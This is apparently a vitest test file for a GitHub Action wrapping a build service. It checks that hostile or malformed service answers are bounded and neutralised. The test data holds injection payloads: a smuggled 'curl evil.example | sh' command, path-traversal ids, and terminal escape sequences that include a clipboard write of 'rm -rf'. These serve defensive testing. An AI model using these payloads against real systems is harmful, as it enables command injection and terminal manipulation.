// What a hostile or broken service answers is checked, bounded and shown as text: it becomes no path of another API,
// changes no build's result, acts on no terminal, and takes no more of the log than its share.

import { describe, expect, it } from 'vitest';
import type { CallName, Fault } from '../simulator/simulator.ts';
import { openGitHubApi } from '../story/github-api.ts';
import { openWorld, runStep, type StepRun, type StoryOptions } from '../story/story.ts';

type Rewrite = Extract<Fault, { kind: 'rewrite' }>['rewrite'];

/** Changes every member of an answer. */
function members(change: (key: string, value: unknown) => unknown): Rewrite {
  return (body) => JSON.parse(JSON.stringify(body), change);
}

function rewriting(call: CallName, rewrite: Rewrite): Fault {
  return { call, kind: 'rewrite', times: Number.POSITIVE_INFINITY, rewrite };
}

async function runStepWith(faults: readonly Fault[], options: StoryOptions = {}): Promise<StepRun> {
  const world = await openWorld({ editions: 'both' });
  for (const fault of faults) world.simulator.faults.add(fault);
  return await runStep({ world, ...options });
}

describe('an id or a commit that could be a path', () => {
  it.each(['../actions/runs/77/approve', '../../forks', 'a3daced?x=', '"; curl evil.example | sh; #'])(
    'is neither sent to GitHub nor set as an output: %s',
    async (path) => {
      const api = await openGitHubApi();
      const ids = /^(?:commit|build_record_id|daily_build_num(?:ber)?)$/;
      const hostile = members((key, value) => (ids.test(key) ? path : value));
      const step = await runStepWith([rewriting('record', hostile), rewriting('start', hostile)], {
        inputs: { source: 'job', 'commit-status': 'codearts', 'github-token': 'ghs_token' },
        env: { GITHUB_API_URL: api.url },
      });
      const names = ['commit-id', 'record-id', 'daily-build-number'];
      expect({ sent: api.statuses, outputs: names.map((name) => step.output(name)) }).toEqual({
        sent: [],
        outputs: ['', '', ''],
      });
    },
  );

  it('is not the id of a job that is given by name', async () => {
    const world = await openWorld({ editions: 'both' });
    world.simulator.faults.add(
      rewriting(
        'jobs',
        members((key, value) => (key === 'id' ? '..' : value)),
      ),
    );
    const byName = { 'job-id': '', 'job-name': 'shop-backend', 'project-id': world.simulator.projectId };
    const step = await runStep({ world, inputs: byName });
    expect(step.lastLine).toMatch(/^::error::job-name: the project has no build task named "shop-backend"/);
    expect(world.simulator.requests.map(({ call }) => call)).toEqual(['jobs']);
  });
});

describe('a build that succeeded stays a success', () => {
  const nested = (depth: number): unknown =>
    JSON.parse(`{"result":{"package_infos":${'['.repeat(depth)}${']'.repeat(depth)}}}`);
  const many = (key: string) => ({ result: { [key]: Array.from({ length: 20_001 }, () => ({})) } });

  it.each<[string, CallName, unknown]>([
    ['its artifacts are nested 3,000 deep', 'output', nested(3_000)],
    ['it has more steps than any build', 'details', many('build_steps')],
    ['its details are a text', 'details', { result: 'none' }],
    ['its share of successes is a list', 'success-ratio', [1, 2]],
    ['its artifacts are a number', 'output', { result: 7 }],
  ])('although %s', async (_, call, answer) => {
    const rewrite: Rewrite = () => JSON.parse(JSON.stringify(answer));
    const step = await runStepWith([rewriting(call, rewrite)]);
    expect({ code: step.code, result: step.output('result') }).toEqual({ code: 0, result: 'success' });
    expect(step.recorder.stdout).not.toContain('Unexpected error');
  });
});

describe('what acts on a terminal', () => {
  const sequences =
    '\u001b[1A\u001b[2K\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007\u001b]52;c;cm0gLXJm\u0007\u001bPq\u001b\\\u009b2J\u0000\b\u0007\u202e\u2066';
  const acting = /(?![\t\n])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;
  const ownColours = /\p{Cc}\[(?:31|0)?m/gu;

  it('is in no line, annotation, output, status or summary of ours', async () => {
    const api = await openGitHubApi();
    const texts =
      /^(?:branch|tag|name|job_?name|display_?name|status|err_msg|error_message|error_code|type|version)$/;
    const hostile = members((key, value) =>
      typeof value === 'string' && texts.test(key) && !/^(?:SUCCESS|FAILURE|Running|InQueue)$/.test(value)
        ? `${value}${sequences}x`
        : value,
    );
    const calls: readonly CallName[] = [
      'record',
      'details',
      'output',
      'analysis',
      'flow-graph',
      'full-stages',
    ];
    const buildStep = {
      name: `Run${sequences}`,
      seconds: 1,
      result: 'error' as const,
      lines: [`Error: a${sequences}b`],
    };
    const children = [{ name: `child${sequences}`, needs: [], steps: [buildStep] }];
    const step = await runStepWith(
      calls.map((call) => rewriting(call, hostile)),
      {
        job: {
          name: 'shop-backend',
          scenario: { name: 'acting', description: 'acts on terminals', steps: [buildStep], children },
        },
        inputs: { 'commit-status': 'codearts', 'github-token': 'ghs_token' },
        env: { GITHUB_API_URL: api.url },
      },
    );
    const { recorder } = step;
    const places = {
      'own lines': recorder.ownLines.join('\n').replaceAll(ownColours, ''),
      annotations: JSON.stringify(recorder.annotations.map(({ message, where }) => [message, where?.title])),
      outputs: [...recorder.outputs.values()].join('\n'),
      status: api.statuses.map(({ body }) => String(body['description'])).join('\n'),
      summary: recorder.summaryMarkdown,
    };
    expect(step.output('result')).toBe('failure');
    expect(Object.entries(places).filter(([, text]) => acting.test(text))).toEqual([]);
    expect(places.annotations).not.toMatch(/\\u00[01][0-9a-f]|\\u202e/);
  });
});

describe('a text of 5 MB', () => {
  const long = 'x'.repeat(5_000_000);
  const longestLine = 5_000;

  it.each<[string, readonly CallName[], RegExp]>([
    ["a step's name", ['details', 'full-stages'], /^name$|^display_?name$/],
    ["the build's status", ['record'], /^status$/],
    ["the build's message", ['record'], /^err_msg$/],
    ['an id', ['record'], /^build_record_id$/],
    ['the branch', ['record'], /^branch$/],
    ["an artifact's name, version and type", ['output'], /^(?:name|version|package_?type)$/],
  ])('takes a line of its own share as %s', async (_, calls, keys) => {
    const hostile = members((key, value) =>
      keys.test(key) && value !== 'success' && value !== 'FAILURE' ? long : value,
    );
    const step = await runStepWith(
      calls.map((call) => rewriting(call, hostile)),
      { job: { scenario: 'failing-compile' } },
    );
    const lengths = step.recorder.ownLines.map((line) => line.length);
    const outputs = [...step.recorder.outputs].filter(([, { length }]) => length > 500_000);
    expect({ isBounded: Math.max(...lengths) < longestLine, outputs }).toEqual({
      isBounded: true,
      outputs: [],
    });
  });

  it('is cut to 200 characters in the title of a group, and in the line under it', async () => {
    const steps = [{ name: 'x'.repeat(20_000), seconds: 2, lines: ['one'] }];
    const step = await runStepWith([], { job: { scenario: { name: 'long', description: 'long', steps } } });
    const titled = step.recorder.ownLines.filter((line) => line.includes('xxx'));
    expect(titled).toEqual([`::group::${'x'.repeat(199)}…`, expect.stringMatching(/^✓ x{199}…, \S+ s$/)]);
  });
});

it('masks 50 of the thousands of sensitive defaults that the service says a job has', async () => {
  const parameters = Array.from({ length: 5_000 }, (_, index) => ({
    name: `p${index}`,
    default: `default-${index}-in-the-clear`,
    sensitive: true,
  }));
  let count = 0;
  const inTheClear = members((key, value) =>
    key === 'value' && value === '******' ? `default-${++count}-in-the-clear` : value,
  );
  const step = await runStepWith([rewriting('job', inTheClear)], { job: { parameters } });
  const masked = step.recorder.masks.filter((mask) => /^default-\d+-in-the-clear$/.test(mask));
  expect({ code: step.code, masked: masked.length }).toEqual({ code: 0, masked: 50 });
});

it('names 20 of the thousands of parameters or choices that the service says a job has', async () => {
  const parameters = Array.from({ length: 5_000 }, (_, index) => ({ name: `${'p'.repeat(90)}${index}` }));
  const choices = Array.from({ length: 5_000 }, (_, index) => `${'c'.repeat(90)}${index}`);
  const step = await runStepWith([], {
    job: { parameters: [...parameters, { name: 'target', choices }] },
    inputs: { parameters: 'other=1\ntarget=2' },
  });
  const messages = step.recorder.annotations.map(({ message }) => message);
  expect(messages).toEqual([
    expect.stringContaining(' and 4982 more. Add it to'),
    expect.stringContaining(' and 4980 more.'),
  ]);
  expect(messages.filter(({ length }) => length > 3_000)).toEqual([]);
});
